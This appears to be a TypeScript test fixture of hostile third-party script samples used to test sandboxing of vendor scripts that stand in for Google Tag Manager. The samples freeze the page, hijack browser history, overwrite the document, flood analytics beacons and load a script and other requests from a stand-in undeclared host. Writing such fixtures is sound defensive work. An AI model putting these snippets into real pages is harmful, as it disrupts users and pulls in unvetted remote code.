/** What a vendor's script may do wrong, each in the place of Google's tag manager. */
export const hostile = {
  'throws at once': `throw new Error('stand-in: thrown')`,
  'holds the page up for five seconds': `const end = performance.now() + 5000; while (performance.now() < end);`,
  'rewrites the history': `
    history.pushState({}, '', '/elsewhere')
    history.replaceState(null, '', '/elsewhere')
    try { history.pushState = () => {} } catch {}
    try { History.prototype.pushState.call(history, {}, '', '/stolen') } catch {}`,
  'writes over the document': `
    setTimeout(() => document.write('<h1>Gone</h1>'), 0)`,
  'asks an address that it has not declared': `
    const evil = 'https://undeclared.example/'
    new Image().src = evil + 'picture'
    fetch(evil + 'fetched').catch(() => {})
    const script = document.createElement('script')
    try { script.src = evil + 'script.js'; document.head.append(script) } catch {}`,
} as const

/** Goes on sending whatever it is told. */
export const neverStops = `setInterval(() => {
  const address = 'https://region1.google-analytics.com/g/collect?en=still&by='
  navigator.sendBeacon(address + 'beacon')
  new Image().src = address + 'picture'
  fetch(address + 'fetch', { mode: 'no-cors' }).catch(() => {})
}, 20)`

/**
 * Runs in the page: asks an origin for what is no script, picture or call.
 * @returns in how many ways
 */
export function tryOtherWays(origin: string): number {
  const link = (rel: string, more: object) =>
    document.head.append(Object.assign(document.createElement('link'), { rel, ...more }))
  link('stylesheet', { href: `${origin}sheet.css` })
  link('prefetch', { href: `${origin}prefetched` })
  link('preload', { href: `${origin}preloaded.css`, as: 'style' })
  new FontFace('theirs', `url(${origin}font.woff2)`).load().catch(() => {})
  return 4
}
